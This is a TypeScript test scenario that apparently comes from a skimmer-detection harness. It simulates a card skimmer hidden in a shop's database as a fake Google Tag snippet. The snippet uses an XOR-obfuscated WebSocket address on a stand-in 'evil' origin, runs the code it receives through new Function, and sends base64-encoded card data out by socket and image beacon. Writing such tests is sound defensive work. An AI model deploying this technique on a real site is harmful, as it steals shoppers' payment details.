import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'database-block-websocket',
  why: "A block in the shop's database that looks like an analytics tag opens a WebSocket and runs what arrives: no file changed, nothing to read at rest (hardest 6).",
  covers: [
    'injection: database block',
    'hard: re-injection',
    'obfuscation: eval',
    'obfuscation: fromCharCode',
    'sending: WebSocket',
  ],
  base: 'direct',
  install: (site) => {
    site.socket('evil/collect', (text) =>
      text === ''
        ? onPay(
            js`window._gs.send(btoa(card())); new Image().src = '${site.origins.evil}/gs.gif?d=' + encodeURIComponent(btoa(card()));`,
          )
        : undefined,
    );
    const address = Array.from(
      `${site.origins.evil.replace('http', 'ws')}/collect`,
      (c) => c.charCodeAt(0) ^ 42,
    ).join();
    site.markup(js`<!-- Google Tag --><script>(function (w, d, s, l, i) {
  w[l] = w[l] || []; w[l].push({ 'gtm.start': new Date().getTime(), event: 'gtm.js' });
  w._gs = new WebSocket(String.fromCharCode.apply(String, i.map(function (c) { return c ^ 42; })));
  w._gs.onmessage = function (e) { new Function(e.data)(); };
})(window, document, 'script', 'dataLayer', [${address}]);</script>`);
  },
  proof: holds((arrived) => [...query(arrived, 'd'), ...arrived.frames.map(({ text }) => text)].map(base64)),
});
